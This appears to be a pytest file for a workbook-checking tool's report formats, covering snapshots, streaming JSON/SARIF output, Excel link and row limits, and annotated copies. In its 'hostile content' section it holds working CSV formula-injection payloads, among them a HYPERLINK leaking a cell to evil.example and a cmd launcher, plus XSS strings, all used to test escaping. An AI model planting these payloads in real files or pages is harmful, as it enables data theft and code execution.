"""Every output format, on one fixed run result, and on a hostile workbook."""

from __future__ import annotations

import csv
import io
import json
import os
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import jsonschema
import openpyxl
import pytest
from click.testing import CliRunner

from alignhealth.annotate import annotate_copy
from alignhealth.cli import main
from alignhealth.engine import CheckRequest, check, make_host
from alignhealth.findings import Severity
from alignhealth.reporters.csv import CsvReporter
from alignhealth.reporters.html import HtmlReporter
from alignhealth.reporters.json import JsonReporter
from alignhealth.reporters.jsonl import JsonlReporter
from alignhealth.reporters.junit import JunitReporter
from alignhealth.reporters.markdown import MarkdownReporter
from alignhealth.reporters.sarif import SarifReporter
from alignhealth.reporters.statistics import StatisticsReporter
from alignhealth.reporters.text import TextReporter
from alignhealth.reporters.xlsx import BAND_FILLS, SEVERITY_FILLS, XlsxReporter
from alignhealth.runresult import RunResult
from alignhealth.testing import write_workbook
from tests.conftest import AS_OF, MEASURED, orphaned_tree

HERE = Path(__file__).parent
SNAPSHOTS = HERE / "snapshots"
SARIF_SCHEMA = json.loads((HERE / "schemas" / "sarif-2.1.0.json").read_text())
UPDATE = os.environ.get("ALIGNHEALTH_UPDATE_SNAPSHOTS") == "1"


def fixed_result(tmp_path: Path) -> RunResult:
    """The same result every time: a small workbook with one finding of several rules."""
    tree = orphaned_tree()
    tree["goals"].append(
        {
            "ID": "G7",
            "Title": "Purple status",
            "Parent": "G2",
            "Level": "Division",
            "Owner": "P2",
            "Status": "Purple",
            **MEASURED,
        }
    )
    tree["projects"].append(
        {"ID": "PR7", "Name": "Shipped", "Goal": "G7", "Owner": "P2", "Status": "Done"}
    )
    ruleset = tmp_path / "r.toml"
    ruleset.write_text('[[suppress]]\nrules = ["AH703"]\nreason = "signed off on paper"\n')
    path = write_workbook(tmp_path / "client.xlsx", **tree)
    cwd = Path.cwd()
    os.chdir(tmp_path)
    try:
        result = check(
            Path("client.xlsx"),
            CheckRequest(as_of=AS_OF, ruleset=str(ruleset.name)),
            host=make_host(autoload=False),
        )
    finally:
        os.chdir(cwd)
    assert path.exists()
    result.source.sha256 = "0" * 64
    result.tool.version = "0.0.0-test"
    result.ruleset.sources = ["preset 'default'", "r.toml"]
    for outcome in result.outcomes:
        outcome.duration_ms = 0.0
    return result


@pytest.fixture
def result(tmp_path: Path) -> RunResult:
    return fixed_result(tmp_path)


def snapshot(name: str, text: str) -> None:
    path = SNAPSHOTS / name
    if UPDATE or not path.exists():
        path.parent.mkdir(exist_ok=True)
        path.write_text(text, encoding="utf-8")
    assert text == path.read_text(encoding="utf-8"), (
        f"{name} changed; if intended, run with ALIGNHEALTH_UPDATE_SNAPSHOTS=1"
    )


@pytest.mark.parametrize(
    ("reporter", "name"),
    [
        (TextReporter, "report.txt"),
        (StatisticsReporter, "report.statistics.txt"),
        (JsonReporter, "report.json"),
        (JsonlReporter, "report.jsonl"),
        (CsvReporter, "report.csv"),
        (MarkdownReporter, "report.md"),
        (JunitReporter, "report.junit.xml"),
        (SarifReporter, "report.sarif"),
    ],
)
def test_each_text_format_matches_its_snapshot(
    result: RunResult, reporter: type[Any], name: str
) -> None:
    snapshot(name, reporter().render(result))


class _Pieces(io.BytesIO):
    """A file that keeps each write apart."""

    def __init__(self) -> None:
        super().__init__()
        self.pieces: list[bytes] = []

    def write(self, data: Any) -> int:
        self.pieces.append(bytes(data))
        return super().write(data)


@pytest.mark.parametrize("at_once", [1, 2, 3, 5, 100])
@pytest.mark.parametrize(
    ("reporter", "knob", "mark"),
    [
        (JsonReporter, "alignhealth.reporters.json.FINDINGS_AT_ONCE", b'"fingerprint":'),
        (SarifReporter, "alignhealth.reporters.sarif.RESULTS_AT_ONCE", b'"ruleId":'),
    ],
)
def test_json_written_in_pieces_is_the_document_rendered_whole(
    result: RunResult,
    at_once: int,
    reporter: type[Any],
    knob: str,
    mark: bytes,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A large run's JSON (and SARIF) is written a few findings at a time (never held
    whole), and is the same document, byte for byte, however the findings fall into
    pieces."""
    monkeypatch.setattr(knob, at_once)
    whole = reporter().render(result).encode()
    out = _Pieces()
    reporter().write(result, out)
    assert out.getvalue() == whole
    held = [piece.count(mark) for piece in out.pieces]
    assert sum(held) == len(result.findings) > 3
    if at_once < len(result.findings):
        assert max(held) == at_once
    else:
        assert out.pieces == [whole]


def test_jsonl_is_written_a_few_lines_at_a_time(
    result: RunResult, monkeypatch: pytest.MonkeyPatch
) -> None:
    import alignhealth.reporters.jsonl as jsonl_format

    monkeypatch.setattr(jsonl_format, "LINES_AT_ONCE", 2)
    out = _Pieces()
    JsonlReporter().write(result, out)
    assert out.getvalue() == JsonlReporter().render(result).encode()
    lines = [piece.count(b"\n") for piece in out.pieces]
    assert sum(lines) == len(result.findings) > 3 and max(lines) == 2


def test_a_report_file_is_what_the_format_writes(tmp_path: Path, result: RunResult) -> None:
    """save() writes the file through write(): the JSON in pieces, others as rendered."""
    import alignhealth.reporters.json as json_format

    for reporter in (JsonReporter(), JsonlReporter(), CsvReporter(), SarifReporter()):
        target = tmp_path / f"out/report.{reporter.name}"
        reporter.save(result, target)
        assert target.read_text(encoding="utf-8") == reporter.render(result)
    json_format.FINDINGS_AT_ONCE, before = 2, json_format.FINDINGS_AT_ONCE
    try:
        JsonReporter().save(result, tmp_path / "pieces.json")
    finally:
        json_format.FINDINGS_AT_ONCE = before
    assert json.loads((tmp_path / "pieces.json").read_text()) == result.model_dump(mode="json")


def test_the_fixed_result_has_what_the_formats_must_show(result: RunResult) -> None:
    codes = {f.code for f in result.findings}
    assert {"AH101", "AH201", "AH002", "AH703"} <= codes
    assert any(f.suppressed for f in result.findings)


def test_sarif_validates_and_locates_cells(result: RunResult) -> None:
    document = json.loads(SarifReporter().render(result))
    jsonschema.Draft4Validator(SARIF_SCHEMA).validate(document)
    run = document["runs"][0]
    assert len(run["results"]) == len(result.findings)
    orphan = next(r for r in run["results"] if r["ruleId"] == "AH101")
    assert orphan["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "client.xlsx"
    assert orphan["locations"][0]["logicalLocations"][0]["fullyQualifiedName"] == "Goals!I5"
    assert (
        orphan["properties"]["sheet"],
        orphan["properties"]["row"],
        orphan["properties"]["column"],
    ) == ("Goals", 5, "I")
    assert orphan["partialFingerprints"]["alignhealth/v1"] == next(
        f.fingerprint for f in result.findings if f.code == "AH101"
    )
    suppressed = next(r for r in run["results"] if r["ruleId"] == "AH703")
    assert suppressed["suppressions"][0]["justification"] == "signed off on paper"
    assert {r["id"] for r in run["tool"]["driver"]["rules"]} == {o.code for o in result.outcomes}


def test_sarif_reports_a_crash_as_a_result_and_a_notification(tmp_path: Path) -> None:
    from tests import plugin_fixtures as pf

    path = write_workbook(tmp_path / "b.xlsx", [{"ID": "G1", "Title": "t"}])
    crashed = check(
        path,
        CheckRequest(as_of=AS_OF),
        host=make_host(autoload=False, plugins=[("c", pf.Crashing())]),
    )
    document = json.loads(SarifReporter().render(crashed))
    jsonschema.Draft4Validator(SARIF_SCHEMA).validate(document)
    run = document["runs"][0]
    assert sum(1 for r in run["results"] if r["ruleId"] == "AH901") == 2
    notes = run["invocations"][0]["toolExecutionNotifications"]
    assert {n["descriptor"]["id"] for n in notes} == {"ZZ001", "ZZ002"}
    assert run["invocations"][0]["executionSuccessful"] is False
    junit = ET.fromstring(JunitReporter().render(crashed))
    assert junit.get("errors") == "2"


def test_junit_parses_with_failures_errors_and_skips(result: RunResult) -> None:
    root = ET.fromstring(JunitReporter().render(result))
    suite = root.find("testsuite")
    assert suite is not None
    failures = suite.findall("testcase/failure")
    assert len(failures) == len(result.active_findings())
    skipped = [o for o in result.outcomes if o.status == "skipped"]
    assert len(suite.findall("testcase/skipped")) == len(skipped)
    assert suite.get("failures") == str(len(failures))
    assert int(suite.get("tests", "0")) == len(suite.findall("testcase"))


def test_csv_and_jsonl_hold_every_finding(result: RunResult) -> None:
    rows = list(csv.DictReader(io.StringIO(CsvReporter().render(result))))
    assert [(r["code"], r["entity_id"], r["cell"]) for r in rows] == [
        (f.code, f.entity.id, f.location.cell if f.location else "") for f in result.findings
    ]
    lines = [json.loads(line) for line in JsonlReporter().render(result).splitlines()]
    assert [line["fingerprint"] for line in lines] == [f.fingerprint for f in result.findings]
    assert all(line["workbook"] == "client.xlsx" for line in lines)


def test_xlsx_report_read_back_cell_by_cell(
    result: RunResult, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)  # where the result's relative workbook path is
    target = tmp_path / "out" / "report.xlsx"
    target.parent.mkdir()
    target.write_bytes(XlsxReporter(destination=target).render(result))
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == ["Summary", "Findings", "By owner", "Rules"]
    summary = book["Summary"]
    assert (summary["A3"].value, summary["B3"].value, summary["C3"].value) == (
        "Health score",
        result.summary.health_score,
        result.summary.band,
    )
    findings = book["Findings"]
    assert [c.value for c in findings[1]][:4] == ["Severity", "Code", "Rule", "Message"]
    assert findings.freeze_panes == "A2" and findings.auto_filter.ref.startswith("A1:K")
    rows = list(findings.iter_rows(min_row=2, values_only=True))
    assert [(r[0], r[1], r[4], r[7]) for r in rows] == [
        (f.severity.value, f.code, f.entity.id, f.location.cell if f.location else "")
        for f in result.findings
    ]
    orphan_row = next(i for i, r in enumerate(rows, start=2) if r[1] == "AH101")
    link = findings.cell(row=orphan_row, column=8).hyperlink
    # A relative link to a file, as Excel writes one: the path with backslashes, the cell
    # as the link's location.
    assert (link.target, link.location) == ("..\\client.xlsx", "Goals!I5")
    assert findings.cell(row=orphan_row, column=1).fill.fgColor.rgb[-6:] == "FFCDD2"
    message = findings.cell(row=orphan_row, column=4).alignment
    assert message.wrap_text and message.vertical == "top"
    by_owner = book["By owner"]
    owners = [r[0] for r in by_owner.iter_rows(min_row=2, values_only=True) if r[0]]
    assert any(o.startswith("Cy Cole (P3): health") for o in owners)
    # each owner's title is bold on its band's colour; each finding's severity coloured
    title = next(
        c for (c,) in by_owner.iter_rows(min_col=1, max_col=1) if "(P3): health" in str(c.value)
    )
    band = next(e.band for e in result.summary.by_owner if e.id == "P3")
    assert title.font.b and band and title.fill.fgColor.rgb[-6:] == BAND_FILLS[band]
    first = by_owner.cell(row=title.row + 1, column=2)
    assert first.fill.fgColor.rgb[-6:] == SEVERITY_FILLS[Severity(first.value)]
    rules = {r[0]: r[4] for r in book["Rules"].iter_rows(min_row=2, values_only=True)}
    assert rules == {o.code: o.status for o in result.outcomes}


def test_xlsx_report_keeps_to_excel_s_links_and_rows(
    result: RunResult, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Excel drops every link of a sheet holding more than 65,530 and holds 1,048,576 rows
    a sheet: the report links the first findings (the most severe) and names the cells of
    the rest, and goes on to a numbered sheet; the summary says so. Tried here with the
    limits lowered, as a report of that many findings would take a minute."""
    from alignhealth.reporters import xlsx

    def report() -> tuple[openpyxl.Workbook, dict[str, str]]:
        target = tmp_path / "report.xlsx"
        target.write_bytes(XlsxReporter(destination=target).render(result))
        book = openpyxl.load_workbook(target)
        summary: dict[str, str] = {}  # the Summary's notes, by their label
        for label, value, *_ in book["Summary"].iter_rows(values_only=True):
            if label in ("Links", "Sheets"):
                summary[label] = f"{summary.get(label, '')}{value}\n"
        return book, summary

    linkable = [bool(XlsxReporter.link("x", f)) for f in result.findings]
    assert sum(linkable) == 3 and len(result.findings) == 4
    monkeypatch.setattr(xlsx, "MAX_LINKS", 2)
    book, summary = report()
    cells = [row[7] for row in book["Findings"].iter_rows(2)]
    assert [c.value for c in cells] == [
        f.location.cell if f.location else None for f in result.findings
    ]
    links = [bool(c.hyperlink) for c in cells]
    first_two = [i for i, can in enumerate(linkable) if can][:2]
    assert [i for i, linked in enumerate(links) if linked] == first_two
    assert "1 cells name their place in the workbook without a link" in summary["Links"]
    assert "Excel keeps 2 links a sheet" in summary["Links"]

    monkeypatch.setattr(xlsx, "MAX_LINKS", 65_530)
    monkeypatch.setattr(xlsx, "MAX_ROWS", 3)  # a header and two findings a sheet
    book, summary = report()
    pages = [name for name in book.sheetnames if name.startswith("Findings")]
    assert pages == ["Findings"] + [f"Findings ({n})" for n in range(2, len(pages) + 1)]
    assert len(pages) == 2
    rows = []
    for name in pages:
        sheet = book[name]
        assert [c.value for c in sheet[1]][:2] == ["Severity", "Code"]
        assert sheet.freeze_panes == "A2" and sheet.max_row == 3
        rows += [(r[0].value, r[1].value, r[4].value) for r in sheet.iter_rows(2)]
    assert rows == [(f.severity.value, f.code, f.entity.id) for f in result.findings]
    assert f"Findings goes on over {len(pages)} sheets" in summary["Sheets"]
    assert "By owner goes on over" in summary["Sheets"] and "Links" not in summary

    monkeypatch.undo()  # within the limits, nothing is said of them
    book, summary = report()
    assert "Links" not in summary and "Sheets" not in summary
    assert [n for n in book.sheetnames if n.startswith("Findings")] == ["Findings"]


def test_xlsx_report_leaves_no_scratch_file_when_it_fails(
    result: RunResult, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """XlsxWriter keeps rows in scratch files until the workbook is closed, and leaves them
    where it is not (here a failure after the findings were written)."""
    import tempfile

    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))

    def fails(*args: object) -> None:
        assert list(scratch.rglob("*")), "the rows are not in the scratch folder"
        raise RuntimeError("stopped")

    monkeypatch.setattr(XlsxReporter, "_rules", fails)
    with pytest.raises(RuntimeError, match="stopped"):
        XlsxReporter().render(result)
    assert not list(scratch.iterdir())


def test_xlsx_report_of_a_workbook_too_deep_for_a_link_names_its_cells(
    result: RunResult,
) -> None:
    """Excel follows links of at most 2,079 characters (XlsxWriter warns of a longer one
    and drops it): a workbook whose path is longer gets its cells named, not linked, and
    no warning on the user's terminal."""
    import warnings

    deep = result.model_copy(deep=True)
    deep.source.path = "/".join(["client-folder"] * 160) + "/client.xlsx"
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        book = openpyxl.load_workbook(io.BytesIO(XlsxReporter().render(deep)))
    cells = [row[7] for row in book["Findings"].iter_rows(2)]
    assert [c.value for c in cells] == [
        f.location.cell if f.location else None for f in deep.findings
    ]
    assert not any(c.hyperlink for c in cells)


def test_annotated_copy_keeps_to_excel_s_links(
    result: RunResult, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from alignhealth import annotate

    monkeypatch.setattr(annotate, "MAX_LINKS", 2)
    copy = tmp_path / "annotated.xlsx"
    annotate_copy(tmp_path / result.source.path, result.findings, copy)
    index = openpyxl.load_workbook(copy)["alignhealth"]
    cells = [row[3] for row in index.iter_rows(2)]
    assert len(cells) == len(result.active_findings()) > 2
    assert [bool(c.hyperlink) for c in cells] == [True, True] + [False] * (len(cells) - 2)


def test_html_report_content(result: RunResult) -> None:
    html = HtmlReporter().render(result)
    assert "<script" not in html and 'href="http' not in html and "src=" not in html
    assert html.count('class="goal"') == len(result.graph.goals)
    assert 'data-goal="G9" data-severity="high"' in html
    assert html.count("<tr data-code=") == len(result.active_findings())
    assert "Cy Cole" in html and "health score" in html
    assert "· 1 finding(s)</div>" in html  # each scorecard counts its owner's findings


def test_html_gives_the_worst_leaders_a_card_and_counts_the_rest(
    result: RunResult, monkeypatch: pytest.MonkeyPatch
) -> None:
    from alignhealth.reporters import html

    leaders = result.summary.by_owner
    assert len(leaders) >= 3
    assert HtmlReporter().render(result).count('<div class="card"') == len(leaders)
    assert "more leaders" not in HtmlReporter().render(result)
    monkeypatch.setattr(html, "MAX_SCORECARDS", 2)
    page = HtmlReporter().render(result)
    assert page.count('<div class="card"') == 2
    below = sum(1 for e in leaders[2:] if e.score is not None and e.score < 100)
    assert f"and {len(leaders) - 2} more leaders ({below} of them below 100)" in page
    # the cards are the worst two
    for entry in leaders[:2]:
        assert f"<h3>{entry.name or entry.id}" in page


def test_the_tree_draws_flagged_goals_and_ancestors_past_the_limit(tmp_path: Path) -> None:
    from alignhealth.findings import Severity
    from alignhealth.reporters import tree
    from alignhealth.testing import build_graph

    rows = [{"ID": "G0", "Title": "Top"}]
    rows += [{"ID": f"G{n}", "Title": "x", "Parent": f"G{(n - 1) // 3}"} for n in range(1, 400)]
    graph = build_graph(rows)
    small = tree.layout(graph, {"G399": Severity.HIGH}, {"G399": 1}, max_nodes=500)
    assert len(small.nodes) == 400 and small.omitted == 0 and len(small.edges) == 399
    big = tree.layout(graph, {"G399": Severity.HIGH}, {"G399": 1}, max_nodes=50)
    assert {n.id for n in big.nodes} == {"G399", *graph.ancestors("G399")}
    assert big.omitted == 400 - len(big.nodes)
    xs = {(n.x, n.y) for n in small.nodes}
    assert len(xs) == len(small.nodes), "two goals drawn on top of each other"


def test_several_formats_in_one_run(tmp_path: Path) -> None:
    book = write_workbook(tmp_path / "client.xlsx", **orphaned_tree())
    out = tmp_path / "out"
    result = CliRunner().invoke(
        main,
        [
            "check",
            str(book),
            "--as-of",
            "2026-11-15",
            "--no-plugins",
            "--format",
            f"html:{out}/report.html",
            "--format",
            f"xlsx:{out}/findings.xlsx",
            "--format",
            f"sarif:{out}/report.sarif",
            "--format",
            "markdown",
        ],
    )
    assert result.exit_code == 1
    assert "| critical | AH201 unowned-priority |" in result.stdout
    assert (out / "report.html").read_text().startswith("<!DOCTYPE html>")
    assert openpyxl.load_workbook(out / "findings.xlsx").sheetnames[0] == "Summary"
    jsonschema.Draft4Validator(SARIF_SCHEMA).validate(
        json.loads((out / "report.sarif").read_text())
    )
    binary = CliRunner().invoke(main, ["check", str(book), "--format", "xlsx"])
    assert binary.exit_code == 2 and "writes a binary file; give it a PATH" in binary.stderr


# -- hostile content -----------------------------------------------------------------------

EVIL = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "script": '<script>alert("owned")</script><img src=x onerror=alert(1)>',
    "plus": "+1-2",
}


def hostile_workbook(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.xlsx"
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Goals"
    sheet.append(["ID", "Title", "Level", "Owner"])
    sheet.append(["G1", "Top", "Company", "ann"])
    rows = [["G2", EVIL["title"]], ["G3", EVIL["at"]], ["G4", EVIL["script"]], ["G5", EVIL["plus"]]]
    for number, (gid, title) in enumerate(rows, start=3):
        sheet.cell(row=number, column=1, value=gid)
        cell = sheet.cell(row=number, column=2, value=title)
        cell.data_type = "s"  # text that looks like a formula, as a client may type it
        sheet.cell(row=number, column=3, value="Team")
    book.save(path)
    return path


def test_hostile_cells_are_safe_in_every_format(tmp_path: Path) -> None:
    path = hostile_workbook(tmp_path)
    result = check(path, CheckRequest(as_of=AS_OF), host=make_host(autoload=False))
    titles = {f.entity.id: f.entity.label for f in result.findings}
    assert titles["G2"] == EVIL["title"] and titles["G4"] == EVIL["script"]
    # CSV: every cell that a spreadsheet would run is quoted as text
    for row in csv.reader(io.StringIO(CsvReporter().render(result))):
        for value in row:
            assert not value.startswith(("=", "+", "-", "@")), value
    assert "'=HYPERLINK" in CsvReporter().render(result)
    # xlsx: stored as text, read back unchanged
    target = tmp_path / "report.xlsx"
    target.write_bytes(XlsxReporter().render(result))
    book = openpyxl.load_workbook(target)
    cells = [c for row in book["Findings"].iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert any(EVIL["title"] == c.value for c in cells if c.column == 6)
    # HTML: escaped, not markup
    html = HtmlReporter().render(result)
    assert "<script>" not in html and "<img" not in html
    assert "&lt;script&gt;alert(&#34;owned&#34;)&lt;/script&gt;" in html
    # Markdown: no raw HTML
    markdown = MarkdownReporter().render(result)
    assert "<script>" not in markdown and "\\<script\\>" in markdown
    # SARIF and JUnit stay valid
    jsonschema.Draft4Validator(SARIF_SCHEMA).validate(json.loads(SarifReporter().render(result)))
    ET.fromstring(JunitReporter().render(result))
    # the annotated copy never turns text into a formula
    copy = tmp_path / "annotated.xlsx"
    annotate_copy(path, result.findings, copy)
    annotated = openpyxl.load_workbook(copy)["Goals"]
    assert annotated["B3"].value == EVIL["title"] and annotated["B3"].data_type == "s"


def test_control_characters_are_stripped_or_shown(tmp_path: Path) -> None:
    path = tmp_path / "goals.csv"
    path.write_text(
        "ID,Title,Level,Owner\nG1,Top,Company,ann\n"
        "G2,bell\x07 and \x1b[31mred\x1b[0m and nul-free,Team,ann\n"
    )
    result = check(path, CheckRequest(as_of=AS_OF), host=make_host(autoload=False))
    text = TextReporter().render(result)
    assert "\x1b" not in text and "\x07" not in text and "\\x1b[31m" in text
    ET.fromstring(JunitReporter().render(result))
    target = tmp_path / "r.xlsx"
    target.write_bytes(XlsxReporter().render(result))  # would raise on illegal characters
    assert "\x07" not in json.dumps(
        [
            c.value
            for row in openpyxl.load_workbook(target)["Findings"].iter_rows()
            for c in row
            if isinstance(c.value, str)
        ]
    )
    jsonschema.Draft4Validator(SARIF_SCHEMA).validate(json.loads(SarifReporter().render(result)))
    document = json.loads(JsonReporter().render(result))
    assert any("\x07" in f["entity"]["label"] for f in document["findings"])


# -- the annotated copy ----------------------------------------------------------------------


def rich_workbook(tmp_path: Path) -> Path:
    from openpyxl.comments import Comment
    from openpyxl.worksheet.datavalidation import DataValidation

    path = tmp_path / "client.xlsx"
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Strategy FY27"
    sheet.append(["Strategy"])
    sheet.merge_cells("A1:D1")
    sheet.append(["ID", "Title", "Level", "Owner", "Score"])
    sheet.append(["G1", "Top", "Company", "ann", 5])
    sheet.append(["G2", "Lost", "Team", "ann", "=E3*2"])
    sheet["A4"].comment = Comment("client's own note", "Client")
    sheet.column_dimensions["B"].width = 42
    rule = DataValidation(type="list", formula1='"Company,Team"')
    rule.add("C3:C100")
    sheet.add_data_validation(rule)
    book.create_sheet("Notes").append(["keep me"])
    book.save(path)
    return path


def test_annotated_copy_marks_cells_and_keeps_everything_else(tmp_path: Path) -> None:
    path = rich_workbook(tmp_path)
    before = path.read_bytes()
    out = tmp_path / "out" / "annotated.xlsx"
    result = CliRunner().invoke(
        main, ["check", str(path), "--as-of", "2026-11-15", "--no-plugins", "--annotate", str(out)]
    )
    assert result.exit_code == 1
    assert path.read_bytes() == before
    copy = openpyxl.load_workbook(out)
    sheet = copy["Strategy FY27"]
    assert copy.sheetnames == ["Strategy FY27", "Notes", "alignhealth"]
    # G2 has no parent column: its AH101 marks the row's first cell, which has a comment
    assert sheet["A4"].comment.text.startswith("client's own note\n\nalignhealth:")
    orphan = next(
        f
        for f in check(path, CheckRequest(as_of=AS_OF), host=make_host(autoload=False)).findings
        if f.code == "AH101"
    )
    marked = sheet[f"{orphan.location.column or 'A'}{orphan.location.row}"]
    assert marked.fill.fgColor.rgb == "00FFCDD2" and "AH101" in marked.comment.text
    assert sheet["E4"].value == "=E3*2"
    assert [str(r) for r in sheet.merged_cells.ranges] == ["A1:D1"]
    assert sheet.column_dimensions["B"].width == 42
    assert sheet.data_validations.dataValidation[0].formula1 == '"Company,Team"'
    assert copy["Notes"]["A1"].value == "keep me"
    index = copy["alignhealth"]
    assert index["D2"].hyperlink.location.startswith("'Strategy FY27'!")


@pytest.mark.parametrize(
    "args",
    [
        ["-f", "xlsx", "-o", "{book}"],
        ["-f", "html:./{book}"],
        ["-f", "json", "-o", "{link}"],  # a symbolic link to the workbook
        ["-f", "csv", "-o", "{hard}"],  # another name of the same file
        ["-f", "xlsx:{stem}.xlsx"],  # one report per workbook, named beside them
        ["--annotate", "{stem}.xlsx"],
    ],
)
def test_no_report_is_written_over_a_workbook_the_check_reads(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: list[str]
) -> None:
    """The input workbook is never written to, however the output is named: the check
    stops before it reads anything (exit code 2, naming the file), and every workbook is
    as it was, byte for byte."""
    monkeypatch.chdir(tmp_path)
    books = [write_workbook(Path(f"{name}.xlsx"), **orphaned_tree()) for name in ("acme", "beta")]
    os.symlink("acme.xlsx", "link.xlsx")
    os.link("acme.xlsx", "hard.xlsx")
    before = {book: book.read_bytes() for book in books}
    named = {"book": "acme.xlsx", "link": "link.xlsx", "hard": "hard.xlsx", "stem": "{stem}"}
    several = "{stem}" in " ".join(args)
    command = ["check", *(map(str, books) if several else ["acme.xlsx"]), "--as-of", str(AS_OF)]
    result = CliRunner().invoke(main, [*command, *(a.format(**named) for a in args)])
    assert result.exit_code == 2, result.output
    assert "itself; alignhealth never writes to the workbooks it reads" in result.stderr
    assert "acme.xlsx" in result.stderr.splitlines()[-1]
    assert {book: book.read_bytes() for book in books} == before
    assert "AH101" not in result.output  # stopped before any check


def test_annotate_refuses_a_copy_the_memory_cannot_hold(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """openpyxl holds every cell of the copy: where that needs more memory than the
    system has free, the check says so after writing the reports (exit code 2) rather
    than pushing the machine into swap; with the memory there, the copy is made."""
    from alignhealth import annotate

    book = write_workbook(tmp_path / "acme.xlsx", **orphaned_tree())
    report = tmp_path / "report.json"
    needed = annotate.memory_needed(book)
    assert needed > 16 * 1024  # the sheets' XML, times what openpyxl makes of each byte
    monkeypatch.setattr(annotate, "memory_available", lambda: needed - 1)
    args = ["check", str(book), "--as-of", str(AS_OF), "-f", f"json:{report}"]
    refused = CliRunner().invoke(main, [*args, "--annotate", str(tmp_path / "marked.xlsx")])
    assert refused.exit_code == 2, refused.output
    assert f"--annotate: a marked copy of {book} needs about" in refused.stderr
    assert "the Excel report (--format xlsx) lists the same findings" in refused.stderr
    assert report.exists() and not (tmp_path / "marked.xlsx").exists()
    monkeypatch.setattr(annotate, "memory_available", lambda: needed)
    made = CliRunner().invoke(main, [*args, "--annotate", str(tmp_path / "marked.xlsx")])
    assert made.exit_code == 1, made.output
    assert (tmp_path / "marked.xlsx").exists()


def test_annotate_refuses_the_input_itself_and_warns_about_lost_parts(tmp_path: Path) -> None:
    path = rich_workbook(tmp_path)
    result = CliRunner().invoke(main, ["check", str(path), "--annotate", str(path)])
    assert result.exit_code == 2 and "never writes to the workbooks it reads" in result.stderr
    import zipfile

    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/charts/chart1.xml", "<chartSpace/>")
        archive.writestr("xl/media/image1.png", b"\x89PNG")
    warned = CliRunner().invoke(
        main, ["check", str(path), "--no-plugins", "--annotate", str(tmp_path / "copy.xlsx")]
    )
    assert "cannot carry over: charts (1), images (1)" in warned.stderr


def test_alignhealth_s_reports_are_told_from_workbooks(tmp_path: Path) -> None:
    """How a folder or an audit leaves reports out: the Excel report's mark, which Excel
    keeps on a re-save, and the CSV report's header row; not a client's workbook, a
    workbook with other custom properties, a client's CSV, an oversized properties part,
    or a file that is no zip."""
    import zipfile

    from openpyxl.packaging.custom import StringProperty

    from alignhealth.loaders.sniff import alignhealth_report

    report = tmp_path / "report.xlsx"
    report.write_bytes(XlsxReporter().render(fixed_result(tmp_path)))
    assert alignhealth_report(report)
    resaved = openpyxl.load_workbook(report)
    resaved.save(tmp_path / "resaved.xlsx")
    assert alignhealth_report(tmp_path / "resaved.xlsx")

    client = write_workbook(tmp_path / "client.xlsx", **orphaned_tree())
    assert not alignhealth_report(client)
    other = openpyxl.Workbook()
    other.custom_doc_props.append(StringProperty(name="Department", value="alignhealth"))
    other.save(tmp_path / "other.xlsx")
    assert not alignhealth_report(tmp_path / "other.xlsx")
    (tmp_path / "goals.csv").write_text("ID,Title\nG1,Grow\n")
    assert not alignhealth_report(tmp_path / "goals.csv")
    (tmp_path / "report.csv").write_text(CsvReporter().render(fixed_result(tmp_path)))
    assert alignhealth_report(tmp_path / "report.csv")
    padded = tmp_path / "padded.xlsx"
    with zipfile.ZipFile(report) as source, zipfile.ZipFile(padded, "w") as copy:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "docProps/custom.xml":
                data = data.replace(b"</Properties>", b" " * 70_000 + b"</Properties>")
            copy.writestr(item, data)
    assert not alignhealth_report(padded)
